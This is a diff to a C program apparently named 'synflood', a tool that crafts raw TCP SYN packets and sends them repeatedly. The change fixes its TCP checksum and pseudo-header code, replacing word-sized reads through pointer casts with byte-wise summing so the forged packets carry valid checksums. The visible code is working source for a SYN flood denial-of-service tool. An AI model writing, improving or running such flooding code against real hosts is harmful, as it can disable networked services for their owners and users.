@@ -30,12 +30,17 @@ static double now(void) {
     return ts.tv_sec + ts.tv_nsec / 1e9;
 }
 
-static uint16_t checksum(const void *data, size_t len, uint32_t sum) {
-    const uint16_t *p = data;
-    for (; len > 1; len -= 2)
-        sum += *p++;
-    if (len)
-        sum += *(const uint8_t *)p;
+/* The Internet checksum of bytes in network order, over what is given and what sum already holds;
+ * bytes, not 16-bit loads through a cast, so the compiler's aliasing rules cannot reorder the reads. */
+static uint32_t sum_bytes(const uint8_t *b, size_t len, uint32_t sum) {
+    for (size_t i = 0; i + 1 < len; i += 2)
+        sum += (uint32_t)b[i] << 8 | b[i + 1];
+    if (len & 1)
+        sum += (uint32_t)b[len - 1] << 8;
+    return sum;
+}
+
+static uint16_t fold(uint32_t sum) {
     while (sum >> 16)
         sum = (sum & 0xffff) + (sum >> 16);
     return (uint16_t)~sum;
@@ -77,16 +82,16 @@ int main(int argc, char **argv) {
         syn.doff = sizeof(syn) / 4;
         syn.syn = 1;
         syn.window = htons(64240);
-        struct {
-            uint32_t src, dst;
-            uint8_t zero, protocol;
-            uint16_t length;
-        } pseudo = {src.s_addr, dst.s_addr, 0, IPPROTO_TCP, htons(sizeof(syn))};
-        uint32_t partial = 0;
-        const uint16_t *p = (const uint16_t *)&pseudo;
-        for (size_t i = 0; i < sizeof(pseudo) / 2; i++)
-            partial += p[i];
-        syn.check = checksum(&syn, sizeof(syn), partial);
+        uint8_t pseudo[12];
+        memcpy(pseudo, &src.s_addr, 4);
+        memcpy(pseudo + 4, &dst.s_addr, 4);
+        pseudo[8] = 0;
+        pseudo[9] = IPPROTO_TCP;
+        pseudo[10] = 0;
+        pseudo[11] = sizeof(syn);
+        uint8_t header[sizeof(syn)];
+        memcpy(header, &syn, sizeof(syn));
+        syn.check = htons(fold(sum_bytes(header, sizeof(header), sum_bytes(pseudo, sizeof(pseudo), 0))));
         if (sendto(fd, &syn, sizeof(syn), 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
             if (errno != ENOBUFS && errno != EPERM) {
                 perror("synflood: sendto");
